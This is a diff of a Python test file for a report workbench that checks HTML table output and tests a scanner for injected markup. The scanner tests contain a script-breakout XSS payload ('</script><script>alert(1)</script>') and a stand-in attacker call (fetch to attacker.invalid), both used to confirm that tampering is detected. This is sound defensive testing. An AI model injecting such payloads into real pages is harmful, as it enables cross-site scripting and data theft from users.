@@ -134,8 +134,8 @@ def test_long_text_is_cut_and_written_whole_to_a_csv(tmp_path, monkeypatch):
     html = table._repr_html_()
     assert len(html) < 5 * MAX_TEXT_CHARS + 2_000
     assert f"… [cut: {len(body):,} characters in all]".replace(",", "\u202f") in html
-    assert "1 text(s) over 1\u202f000 characters cut here; full text: " in html
-    assert table.csv and f'<a href="{table.csv}">' in html
+    assert "1 text(s) over 1\u202f000 characters cut here." in html and ">all 2 rows, full text (CSV)</a>" in html
+    assert table.csv and f'<a class="wb-csv" href="{table.csv}">' in html
     assert pl.read_csv(tmp_path / table.csv)["body"].to_list() == [body, "kort"]
 
 
@@ -192,6 +192,19 @@ def test_page_scan_accepts_what_the_workbench_writes_and_names_the_rest():
     # a chart script cut short by a value that ends it, and the script that follows
     broken = page.replace('"Bromma"', '"Bromma</script><script>alert(1)</script>"')
     assert len(foreign_markup(broken)) == 2
+
+
+def test_page_scan_accepts_the_table_script_only_as_written():
+    from workbench.reportset.pageparts import table_script
+
+    head = '<html><head><script>window.VEGA_DEBUG = {"vega_version": "6"};</script><script>/* Vega */</script>'
+    page = head + f"<script>{table_script()}</script></head><body><p>text</p></body></html>"
+    assert foreign_markup(page) == []
+    altered = page.replace("r.hidden = ", "fetch('http://attacker.invalid/'); r.hidden = ")
+    [found] = foreign_markup(altered)
+    assert "a <script> the workbench did not write" in found
+    fourth = page.replace("</head>", "<script>/* more */</script></head>")
+    assert len(foreign_markup(fourth)) == 1
 
 
 def test_verify_names_foreign_markup(tmp_path):
